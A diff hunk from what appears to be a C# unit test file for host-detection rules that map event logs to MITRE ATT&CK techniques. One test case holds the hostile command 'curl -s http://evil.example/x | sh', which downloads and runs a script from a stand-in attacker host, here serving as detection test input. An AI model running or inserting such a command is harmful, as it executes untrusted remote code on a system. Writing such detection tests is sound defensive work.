@@ -116,7 +116,7 @@ public sealed class HostSummaryRuleTests
     [TestCase("%SystemRoot%\\System32\\svchost.exe -k netsvcs", false)]
     [TestCase("", false)]
     public async Task Services_from_unusual_places_count(string command, bool expected) => AssertTechnique(
-        await HostSummaryRun.FindingsAsync("ServicesInstalled", ("EventID", 7045L), ("Type", "Service"), ("Service", command), ("Command", command)),
+        await HostSummaryRun.FindingsAsync("ScheduledTasksWindows", ("EventID", 7045L), ("Type", "Service"), ("Service", command), ("Command", command)),
         expected ? "T1543.003" : null);
 
     [TestCase("curl -s http://evil.example/x | sh", "root", "", "T1053.003")]
